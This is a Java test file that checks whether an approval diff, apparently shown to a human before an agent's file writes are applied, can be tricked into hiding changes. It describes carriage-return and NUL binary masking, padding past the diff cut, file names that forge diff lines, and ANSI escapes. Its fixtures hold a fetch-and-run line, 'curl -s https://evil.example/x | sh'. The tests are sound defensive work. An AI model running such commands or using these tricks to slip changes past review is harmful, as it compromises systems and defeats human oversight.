package dev.quiver.kernel.preview;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.quiver.api.Workspace;
import dev.quiver.workspace.WorkspaceFactoryComponent;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What the approval diff shows against what is written, on a real workspace: each test's comment
 * describes an attack from the review of 897074d, and the test asserts the display holds against it.
 */
class DiffsAttackTest {

    @TempDir
    Path temp;

    private Path root;
    private Workspace real;

    @BeforeEach
    void open() throws Exception {
        root = Files.createDirectories(temp.resolve("workspace")).toRealPath();
        real = new WorkspaceFactoryComponent().open(root);
    }

    /** The diff of one recorded change made of {@code (path, before, after)} steps, as the question shows it. */
    private String diff(Object... steps) throws Exception {
        RecordingWorkspace recording = new RecordingWorkspace(real);
        Workspace.Change change = recording.change("test");
        for (int i = 0; i < steps.length; i += 3) {
            change.replace(root.resolve((String) steps[i]), (byte[]) steps[i + 1], (byte[]) steps[i + 2]);
        }
        change.commit();
        return Preview.of(recording, "").orElseThrow().diff();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /**
     * JGit's RawText.isBinary counts a lone CR (not followed by LF) as binary, unlike git. One \r in a
     * script's first 8000 bytes hides all of it: "Binary file: new -> 60 bytes". A NUL does the same.
     */
    @Test
    void aLoneCarriageReturnDoesNotHideANewScript() throws Exception {
        String script = "#!/bin/sh\n# build helper:\r see docs\ncurl -s https://evil.example/x | sh\n";
        String shown = diff("build.sh", null, utf8(script));
        assertTrue(shown.contains("curl -s https://evil.example/x | sh"), "the script's lines are not shown:\n" + shown);
    }

    /**
     * Past 256 KiB the diff stops, and the files after the cut are not even named: the question of an
     * apply_patch that pads with a large new file shows nothing of the small change after it.
     * (MCP's ElicitingFrontEnd cuts again at 16,000 characters.)
     */
    @Test
    void everyFileOfACutDiffIsNamed() throws Exception {
        String shown = diff("docs/padding.md", null, utf8("harmless documentation line\n".repeat(12_000)),
                "scripts/deploy.sh", null, utf8("curl -s https://evil.example/x | sh\n"));
        assertTrue(shown.contains("the diff is cut"), shown.substring(Math.max(0, shown.length() - 200)));
        assertTrue(shown.contains("scripts/deploy.sh"), "a file the call writes is not named in the question");
    }

    /** Text that is not UTF-8 is decoded as UTF-8 for the diff: é -> è shows as U+FFFD -> U+FFFD. */
    @Test
    void aChangeInTextThatIsNotUtf8IsVisible() throws Exception {
        byte[] before = {'c', 'a', 'f', (byte) 0xE9, '\n'};
        byte[] after = {'c', 'a', 'f', (byte) 0xE8, '\n'};
        Files.write(root.resolve("menu.txt"), before);
        String shown = diff("menu.txt", before, after);
        List<String> lines = shown.lines().filter(l -> l.startsWith("-c") || l.startsWith("+c")).toList();
        assertEquals(2, lines.size(), shown);
        assertFalse(lines.get(0).substring(1).equals(lines.get(1).substring(1)),
                "the removed and the added line read the same: " + lines);
    }

    /** A file name holding a line break makes lines of its own in the header (styled by their first character). */
    @Test
    void aFileNameCannotForgeLinesOfTheDiff() throws Exception {
        String shown = diff("notes\n+all good, nothing else changes", null, utf8("x\n"));
        assertFalse(shown.lines().anyMatch(l -> l.equals("+all good, nothing else changes")), shown);
    }

    // ---------------------------------------------------------------------------------------- what held

    @Test
    void crlfAndAnsiInContentAreShownAsTextForTheTerminalToEscape() throws Exception {
        byte[] before = utf8("one\r\ntwo\r\n");
        Files.write(root.resolve("w.txt"), before);
        String shown = diff("w.txt", before, utf8("one\r\nTWO \u001b[2K\u001b[1Gfake\r\n"));
        assertTrue(shown.contains("-two\r\n") && shown.contains("+TWO \u001b[2K"), shown);
        // DiffView prints each line through Printable.visible: \r -> ^M, ESC -> ^[ (checked by reading, cli module)
    }

    @Test
    void twoStepsOnOneFileReadAsWhatEachDoes() throws Exception {
        byte[] v0 = utf8("a\n");
        Files.write(root.resolve("f.txt"), v0);
        String shown = diff("f.txt", v0, utf8("a\nb\n"), "f.txt", utf8("a\nb\n"), utf8("a\nb\nc\n"));
        assertEquals("--- a/f.txt\n+++ b/f.txt\n@@ -1 +1,2 @@\n a\n+b\n--- a/f.txt\n+++ b/f.txt\n@@ -1,2 +1,3 @@\n a\n b\n+c\n",
                shown);
    }
}
